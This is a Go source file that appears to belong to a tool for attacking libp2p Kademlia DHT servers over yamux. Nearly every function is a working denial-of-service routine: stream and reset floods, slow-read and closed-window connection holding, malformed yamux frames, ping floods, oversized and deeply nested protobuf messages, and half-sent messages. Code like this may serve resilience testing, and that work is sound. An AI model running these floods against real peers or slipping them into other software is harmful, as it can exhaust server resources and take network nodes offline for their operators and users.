package main

import (
	"encoding/binary"
	"math/rand/v2"

	kadpb "github.com/libp2p/go-libp2p-kad-dht/pb"
	"google.golang.org/protobuf/proto"
)

const (
	streamsAWrite  = 32
	kadStreams     = 32 // more of them a sound server refuses
	floodersAtOnce = 8
	// slow readers and others that want many connections to hold something on
	holdersAtOnce = 32
)

func kadRequest(message *kadpb.Message) []byte {
	bytes, err := proto.Marshal(message)
	if err != nil {
		panic(err) // made of constants
	}
	return delimited(bytes)
}

func (a *attacker) findNode() []byte {
	key := make([]byte, 32)
	binary.BigEndian.PutUint64(key, rand.Uint64())
	return kadRequest(&kadpb.Message{Type: kadpb.Message_FIND_NODE, Key: key})
}

func (a *attacker) getProviders() []byte {
	return kadRequest(&kadpb.Message{Type: kadpb.Message_GET_PROVIDERS, Key: a.key})
}

// floodStreams opens kad streams as fast as it can, asks on each and closes none.
func floodStreams(a *attacker) error {
	request := append(proposal(string(kadID)), a.findNode()...)
	a.flooding(floodersAtOnce, true, func(s *rawSession) (frames []byte, what string, count int) {
		for range streamsAWrite {
			frames = append(frames, s.stream(request, 0)...)
		}
		return frames, "streams", streamsAWrite
	})
	return nil
}

// floodResets opens streams with a request and resets each at once.
func floodResets(a *attacker) error {
	request := append(proposal(string(kadID)), a.getProviders()...)
	a.flooding(floodersAtOnce, true, func(s *rawSession) (frames []byte, what string, count int) {
		for range streamsAWrite {
			id := s.nextID
			frames = append(frames, s.stream(request, 0)...)
			frames = append(frames, yamuxFrame(frameWindow, flagRST, id, 0)...)
		}
		return frames, "resets", streamsAWrite
	})
	return nil
}

// asking are the frames of a session that asks on all the streams it may have, and for a window of any length on each.
func (s *rawSession) asking(request []byte, aStream int, window uint32) (frames []byte) {
	for range kadStreams {
		id := s.nextID
		content := proposal(string(kadID))
		for range aStream {
			content = append(content, request...)
		}
		frames = append(frames, s.stream(content, 0)...)
		if window > 0 {
			frames = append(frames, yamuxFrame(frameWindow, 0, id, window)...)
		}
	}
	return frames
}

// readSlowly asks for a great many answers with endless windows, and reads none from the socket.
func readSlowly(a *attacker) error {
	return a.holdOpen(func(s *rawSession) error {
		s.tcp.SetReadBuffer(4096)
		return s.write(s.asking(a.getProviders(), 100, 1<<30))
	}, false)
}

// keepWindowsClosed reads the socket and gives no stream a byte of window beyond the first.
func keepWindowsClosed(a *attacker) error {
	return a.holdOpen(func(s *rawSession) error { return s.write(s.asking(a.getProviders(), 100, 0)) }, true)
}

// holdOpen lets sessions do what they do, and keeps up to -n of them.
func (a *attacker) holdOpen(do func(s *rawSession) error, reads bool) error {
	held := held{most: a.peers}
	defer held.closeAll()
	a.repeat(holdersAtOnce, func() error {
		s, err := a.session()
		if err != nil {
			return err
		}
		a.count("connections", 1)
		if reads {
			s.drain()
		}
		held.keep(s.end)
		if do(s) != nil {
			a.count("cut off", 1)
		}
		return nil
	})
	return nil
}

// breakYamux breaks the rules of yamux in turn: a window that overflows, data beyond the window, a type and a version that there
// are not, a stream twice, data for no stream, and an endless header.
func breakYamux(a *attacker) error {
	content := make([]byte, 64<<10)
	breaches := []func(s *rawSession) []byte{
		func(s *rawSession) []byte {
			return append(s.stream(proposal(string(kadID)), 0), yamuxFrame(frameWindow, 0, 1, 1<<32-1)...)
		},
		func(s *rawSession) []byte {
			return append(s.stream(proposal(string(kadID)), 0), yamuxFrame(frameData, 0, 1, initialWindow+1, content...)...)
		},
		func(*rawSession) []byte { return yamuxFrame(9, 0, 1, 0) },
		func(*rawSession) []byte { return []byte{7, 0, 0, 1, 0, 0, 0, 1, 0, 0, 0, 0} },
		func(s *rawSession) []byte { return append(s.stream(nil, 0), yamuxFrame(frameWindow, flagSYN, 1, 0)...) },
		func(*rawSession) []byte { return yamuxFrame(frameData, 0, 77, 1<<31, content...) },
		func(*rawSession) []byte { return yamuxFrame(frameData, 0, 1, 0)[:11] },
		func(*rawSession) []byte { return yamuxFrame(frameGoAway, 0, 0, 1) },
	}
	a.flooding(floodersAtOnce, true, func(s *rawSession) ([]byte, string, int) {
		return breaches[rand.IntN(len(breaches))](s), "breaches", 1
	})
	return nil
}

// floodPings has the server answer yamux pings, and window updates of nothing.
func floodPings(a *attacker) error {
	var frames []byte
	for i := range 1000 {
		frames = append(frames, yamuxFrame(framePing, flagSYN, 0, uint32(i))...)
		frames = append(frames, yamuxFrame(frameWindow, 0, 1, 0)...)
	}
	a.flooding(floodersAtOnce, true, func(*rawSession) ([]byte, string, int) { return frames, "pings", 1000 })
	return nil
}

// sendGiants sends lengths that promise too much, messages that are too long, and ones that are nested or full of fields.
func sendGiants(a *attacker) error {
	nested := []byte{}
	for len(nested) < 60<<10 {
		nested = append(append([]byte{0x4a}, binary.AppendUvarint(nil, uint64(len(nested)))...), nested...)
		if len(nested) < 16<<10 {
			nested = append(nested, nested...)
		}
	}
	fields := make([]byte, 0, 60<<10)
	for len(fields) < 60<<10 {
		fields = append(fields, 0x4a, 0x00, 0x12, 0x00)
	}
	contents := [][]byte{
		append(binary.AppendUvarint(nil, 1<<63), make([]byte, 100<<10)...),
		append(binary.AppendUvarint(nil, 4<<20), make([]byte, 200<<10)...),
		append([]byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff}, make([]byte, 1000)...),
		delimited(nested),
		delimited(fields),
		delimited(make([]byte, 63<<10)),
	}
	a.flooding(floodersAtOnce, true, func(s *rawSession) ([]byte, string, int) {
		content := append(proposal(string(kadID)), contents[rand.IntN(len(contents))]...)
		return s.stream(content, flagFIN), "messages", 1
	})
	return nil
}

// sendHalves leaves all but the last byte of the longest message on every stream of every connection.
func sendHalves(a *attacker) error {
	most := 64 << 10
	content := append(proposal(string(kadID)), binary.AppendUvarint(nil, uint64(most))...)
	content = append(content, make([]byte, most-1)...)
	return a.holdOpen(func(s *rawSession) error {
		for range kadStreams {
			if err := s.write(s.stream(content, 0)); err != nil {
				return err
			}
			a.count("halves", 1)
		}
		return nil
	}, true)
}
